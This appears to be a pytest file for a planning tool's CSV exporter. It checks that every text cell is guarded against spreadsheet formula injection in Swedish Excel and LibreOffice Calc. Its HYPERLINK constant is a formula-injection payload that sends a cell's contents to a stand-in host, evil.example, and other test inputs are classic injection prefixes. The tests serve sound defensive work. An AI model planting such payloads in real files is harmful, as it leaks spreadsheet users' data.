"""Every CSV planflow writes goes through csvfile: what Swedish Excel opens (semicolon, UTF-8
with a BOM, CRLF) with every text cell guarded against running as a formula, checked by Python's
csv module and by LibreOffice Calc; the guard is undone exactly."""

from __future__ import annotations

from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlalchemy import select

from planflow.db import Database
from planflow.models import Activity
from planflow.services.outputs import csvfile
from planflow.services.outputs.archive import layout

from ..conftest import Cli
from ..spreadsheets import calc_cells, excel_rows, formulas

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Öppna")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+46 8 123", "'+46 8 123"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # an apostrophe of its own is kept, so the guard can be undone
        ("Åter i tid", "Åter i tid"),
        ("a;b", "a;b"),
        (-3, "-3"),  # a number stays a number
        (None, ""),
        (date(2026, 12, 24), "2026-12-24"),
        (datetime(2026, 12, 24, 8, 30, tzinfo=UTC), "2026-12-24T08:30:00+00:00"),
    ],
)
def test_a_cell_is_written_as_text_no_spreadsheet_runs(value: object, written: str) -> None:
    data = csvfile.csv_bytes(["value"], [[value]])
    assert excel_rows(data) == [["value"], [written]]
    assert csvfile.read_csv(data) == [{"value": "" if value is None else csvfile.unguarded(written)}]
    if isinstance(value, str):
        assert csvfile.read_csv(data)[0]["value"] == value


def test_calc_runs_no_cell_and_shows_each_as_written(tmp_path: Path) -> None:
    texts = [HYPERLINK, "=1+1", "+1", "-1", "@SUM(1)", "\t=1+1", "\r=1+1", "'=1+1", "Åter"]
    data = csvfile.csv_bytes(["text", "number"], [[t, -3] for t in texts])
    cells = calc_cells(data, tmp_path / "calc")
    assert formulas(cells) == []
    # shown as written (Calc keeps a line break in a cell as LF)
    assert [row[0][0] for row in cells[1:]] == [csvfile.guarded(t).replace("\r", "\n") for t in texts]
    assert {row[1] for row in cells[1:]} == {(-3, "n")}
    # and the same file unguarded would have run: the check can fail
    raw = ("\ufefftext\r\n" + HYPERLINK.replace('"', '""').join('""') + "\r\n").encode("utf-8")
    assert formulas(calc_cells(raw, tmp_path / "raw"))


def test_the_archives_csvs_open_in_swedish_excel_and_run_no_formula(
    cli: Cli, database_url: str, tmp_path: Path
) -> None:
    assert cli("init", "--demo").exit_code == 0
    db = Database(database_url)
    try:
        with db.transaction() as session:
            activity = session.scalars(select(Activity).where(Activity.code == "1.1.1")).one()
            activity.title, activity.office = HYPERLINK, "\t=1+1"
    finally:
        db.dispose()
    folder = tmp_path / "archive"
    assert cli("archive", "export", "--out", str(folder)).exit_code == 0
    tables = sorted(folder.rglob("*.csv"))
    assert {p.name for p in tables} >= {"activities.csv", "cycles.csv", "decisions.csv", "events.csv"}
    for path in tables:
        rows = excel_rows(path.read_bytes())
        assert {len(r) for r in rows} == {len(rows[0])}, path.name  # every row split as its header
    activities = excel_rows((folder / layout.table_csv("activities")).read_bytes())
    assert len(activities[0]) > 5 and len(activities) == 61
    (row,) = [r for r in activities if "1.1.1" in r]
    assert "'" + HYPERLINK in row and "'\t=1+1" in row
    assert (
        formulas(calc_cells((folder / layout.table_csv("activities")).read_bytes(), tmp_path / "calc")) == []
    )
